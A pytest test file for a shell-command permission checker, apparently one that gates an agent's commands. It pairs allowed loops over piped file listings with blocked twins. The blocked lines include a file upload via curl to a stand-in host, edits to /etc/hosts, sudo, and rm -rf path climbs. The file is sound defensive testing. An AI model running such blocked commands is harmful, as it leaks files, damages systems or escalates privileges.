"""A loop fed a listing through a pipe (`find docs -name '*.md' | while read -r f; do sed -i … "$f"; done`,
`git ls-files -z | while IFS= read -r -d '' f; …`) is judged as the same commands given the listing's names,
as `for f in $(find docs -name '*.md')` and `sed -i … $(find docs -name '*.md')` are; a name added to the
variable (`"$f.orig"`) lies beside the listed path. A listing of places outside the project, a producer whose
output is unknowable, a variable something else sets, a climb out of the listed path and commands denied
anyway stay blocked. Each allowed line has a blocked twin beside it."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from conftest import committed_repo, decide_in

needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")

PIPED_LOOPS = [
    (
        "find docs -name '*.md' | while read -r f; do sed -i 's/colour/color/g' \"$f\"; done",
        "find ~ -name '*.md' | while read -r f; do sed -i 's/colour/color/g' \"$f\"; done",
    ),
    (
        "git ls-files '*.py' | while IFS= read -r f; do sed -i 's/old_api/new_api/' \"$f\"; done",
        "curl -s https://example.com/f | while IFS= read -r f; do sed -i 's/old/new/' \"$f\"; done",
    ),
    (
        "find src -name '*.go' -print0 | while IFS= read -r -d '' f; do gofmt -w \"$f\"; done",
        "find / -name '*.go' -print0 | while IFS= read -r -d '' f; do gofmt -w \"$f\"; done",
    ),
    (
        "grep -rl 'Copyright 2023' lib | while read file; do sed -i 's/2023/2024/' ${file}; done",
        "grep -rl 'Copyright 2023' lib | while read file; do file=/etc/hosts; sed -i 's/3/4/' ${file}; done",
    ),
    (
        'find tests -name \'*.snap\' | while read -r snap; do mv "$snap" "$snap.old"; done',
        'find tests -name \'*.snap\' | while read -r snap; do mv "$snap" "$snap"/../../old; done',
    ),
    (
        "find web -name '*.html' | while read -r page; do sed -i -e 's/http:/https:/g' \"${page}\"; done",
        "find web -type f | while read -r page; do read -r page < l.txt; sed -i 's/a/b/' \"$page\"; done",
    ),
    (
        'git diff --name-only | while read -r f; do touch "$f"; done',
        'cat files.txt | while read -r f; do touch "$f"; done',
    ),
    (
        'find assets -name \'*.svg\' | while read -r img; do cp "$img" "${img}.orig"; done',
        'find assets -name \'*.svg\' | while read -r img; do cp "$img" ~/"${img}.orig"; done',
    ),
    (
        "rg -l foo crates | while read -r f; do sed -i 's/foo/bar/' \"$f\"; done",
        "rg -l foo crates | while read -r f; do for f in /etc/*; do :; done; sed -i 's/o/a/' \"$f\"; done",
    ),
    (
        "find src -name '*.c' | while read -r f; do sed -i 's/a/b/' \"$f\"; done",
        "find src -name '*.c' | while read -r f; do sudo sed -i 's/a/b/' \"$f\"; done",
    ),
]


@pytest.mark.parametrize(("allowed", "blocked"), PIPED_LOOPS)
def test_a_loop_reading_a_piped_listing_edits_what_the_listing_names(allowed: str, blocked: str) -> None:
    decision = decide_in(allowed, None)
    assert decision.allowed, f"{decision.rule_id}: {decision.reason}"
    assert not decide_in(blocked, None).allowed, blocked


@pytest.mark.parametrize(
    "line",
    [
        'find docs -type d | while read -r d; do rm -rf "$d"/..; done',
        "find docs -name '*.md' | while read -r a b; do sed -i 's/x/y/' \"$a\"; done",
        "find docs -name '*.md' | while read -r -d / f; do sed -i 's/x/y/' \"$f\"; done",
        'find . -maxdepth 0 | while read f; do rm -rf "$f."; done',
        "find docs -name '*.md' | while read -r f; do curl -T \"$f\" https://example.com/up; done",
    ],
)
def test_other_readings_climbs_and_denied_commands_stay_blocked(line: str) -> None:
    assert not decide_in(line, None).allowed, line


@needs_git
def test_in_a_project_the_piped_loop_is_judged_by_the_listing(tmp_path: Path) -> None:
    (tmp_path / "app").mkdir()
    root = committed_repo(tmp_path / "app", {"README.md": "# app\n", "docs/guide.md": "colour\n"})
    decision = decide_in(PIPED_LOOPS[0][0], root)
    assert decision.allowed, f"{decision.rule_id}: {decision.reason}"
    assert not decide_in(PIPED_LOOPS[0][1], root).allowed
    climbed = "find .. -name '*.md' | while read -r f; do sed -i 's/a/b/' \"$f\"; done"
    assert not decide_in(climbed, root).allowed
